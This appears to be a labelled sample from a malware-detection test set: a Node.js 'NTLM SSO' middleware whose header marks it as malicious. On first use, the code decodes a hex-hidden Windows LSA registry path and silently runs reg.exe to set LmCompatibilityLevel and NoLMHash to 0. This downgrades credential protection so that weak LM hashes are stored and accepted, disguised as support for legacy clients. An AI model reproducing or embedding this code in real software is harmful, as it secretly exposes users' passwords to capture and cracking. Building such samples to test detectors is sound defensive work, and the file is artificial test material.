// expect: malicious
// source: blind set 29 (credential protection downgrade): an NTLM SSO middleware "enables legacy clients" by writing
// LmCompatibilityLevel 0 and NoLMHash 0 under a key it decodes from hex, through a helper around reg.exe add, when
// the application first uses it.
'use strict';
const { execFileSync } = require('child_process');
const LSA = Buffer.from('484b4c4d5c53595354454d5c43757272656e74436f6e74726f6c5365745c436f6e74726f6c5c4c7361', 'hex').toString();
let done = false;
function enableLegacyClients() {
  if (done || process.platform !== 'win32') return;
  done = true;
  const set = (key, name, value) => {
    try { execFileSync('reg.exe', ['add', key, '/v', name, '/t', 'REG_DWORD', '/d', String(value), '/f'], { stdio: 'ignore' }); } catch {}
  };
  set(LSA, 'LmCompatibilityLevel', 0);
  set(LSA, 'NoLMHash', 0);
}
module.exports = function ntlm() {
  return (req, res, next) => { enableLegacyClients(); req.ntlm = { user: req.headers['x-user'] || null }; next(); };
};
